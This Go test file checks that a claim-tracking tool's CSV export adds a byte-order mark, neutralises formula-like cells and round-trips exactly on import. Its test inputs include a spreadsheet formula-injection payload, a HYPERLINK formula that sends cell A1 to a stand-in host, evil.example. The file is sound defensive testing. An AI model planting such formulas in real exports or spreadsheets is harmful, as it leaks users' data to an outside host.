package sqlite_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"testing"

	"github.com/claimtrack/claimtrack/internal/claimtrack"
	"github.com/claimtrack/claimtrack/internal/dump"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Issue 16, item 6: the CSV export (claimtrack export --format csv) starts
// every file with a byte-order mark and neutralises every cell a spreadsheet
// would run as a formula; reading the files back, with or without the BOM,
// undoes it, so that export → import gives back exactly what was stored.
func TestExportCSV_FormulasNeutralisedAndRoundTripExact(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	src := MustOpenDB(t)
	hyperlink := `=HYPERLINK("https://evil.example/?d="&A1,"Click for details")`
	texts := []string{
		hyperlink,
		"+33 1 23 45 67 89 is the number the ministry gave.",
		"-5% is what the ministry said inflation would be.",
		"@SUM(A1:A9) was pasted into the statement.",
		"'=already quoted, as the source wrote it.",
		"''+two quotes and a plus, as typed.",
		"'Tis the season, the minister said.",
		"“Curly quotes” – and a dash – survive.",
	}
	var ids []int64
	for _, text := range texts {
		ids = append(ids, mustCreateClaim(t, src, text).ID)
	}
	c, err := src.FindClaimByID(ctx, ids[0])
	require.NoError(t, err)
	_, err = src.SetClaimStatus(ctx, c.ID, claimtrack.StatusChange{Status: claimtrack.StatusRefuted, Note: "=1+1 is not a verdict.", Version: c.Version}, "@editor")
	require.NoError(t, err)
	_, err = src.AddEvidence(ctx, ids[1], claimtrack.EvidenceInput{SourceName: "-Minus Outlet", SourceKind: claimtrack.SourceOutlet,
		Stance: claimtrack.StanceAsserts, Quote: "-5%, they wrote.", Note: "+1 from the desk"}, "editor")
	require.NoError(t, err)
	want, _ := exportJSON(t, src)
	want.ExportedAt = ""

	dir := filepath.Join(t.TempDir(), "csv")
	cw, err := dump.NewCSVDirWriter(dir)
	require.NoError(t, err)
	require.NoError(t, src.Export(ctx, cw, nil))

	// Every file starts with the BOM, and no cell starts a formula.
	for _, table := range dump.Tables {
		raw, err := os.ReadFile(filepath.Join(dir, string(table)+".csv"))
		require.NoError(t, err)
		require.True(t, bytes.HasPrefix(raw, []byte("\ufeff")), "%s.csv starts with a byte-order mark", table)
		records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte("\ufeff")))).ReadAll()
		require.NoError(t, err)
		for _, rec := range records {
			for _, cell := range rec {
				if cell != "" {
					assert.NotContains(t, "=+-@\t\r", cell[:1], "%s.csv: a cell starts a formula: %q", table, cell)
				}
			}
		}
		if table == dump.TableClaims {
			var texts []string
			for _, rec := range records[1:] {
				texts = append(texts, rec[1])
			}
			assert.Contains(t, texts, "'"+hyperlink, "=HYPERLINK is exported neutralised")
			assert.Contains(t, texts, "''=already quoted, as the source wrote it.")
			assert.Contains(t, texts, "'Tis the season, the minister said.", "a quote before anything else is left alone")
		}
	}

	check := func(t *testing.T) {
		d, err := dump.ReadCSVDir(dir)
		require.NoError(t, err)
		dst := MustOpenDB(t)
		_, err = dst.ImportDump(ctx, d, "importer", "csv", false)
		require.NoError(t, err)
		got, _ := exportJSON(t, dst)
		got = withoutImportEvent(t, got)
		assert.Equal(t, want.Sources, got.Sources)
		assert.Equal(t, want.Claims, got.Claims)
		assert.Equal(t, want.Evidence, got.Evidence)
		assert.Equal(t, want.Events, got.Events)
	}
	t.Run("with BOM", check)
	for _, table := range dump.Tables {
		path := filepath.Join(dir, string(table)+".csv")
		raw, err := os.ReadFile(path)
		require.NoError(t, err)
		require.NoError(t, os.WriteFile(path, bytes.TrimPrefix(raw, []byte("\ufeff")), 0o644))
	}
	t.Run("without BOM", check)
}

// A JSON export saved with a byte-order mark in front (as some editors do)
// is imported like one without.
func TestImportFile_JSONWithBOM(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	src := MustOpenDB(t)
	mustCreateClaim(t, src, `=HYPERLINK("https://evil.example","Click") stays as it was.`)
	_, raw := exportJSON(t, src)
	dst := MustOpenDB(t)
	res, err := dst.ImportFile(ctx, bytes.NewReader(append([]byte("\ufeff"), raw...)), "importer", "export.json", false)
	require.NoError(t, err)
	assert.Equal(t, 1, res.Claims)
	c, err := dst.FindClaimByID(ctx, 1)
	require.NoError(t, err)
	assert.Equal(t, `=HYPERLINK("https://evil.example","Click") stays as it was.`, c.Text, "JSON is never neutralised")
}
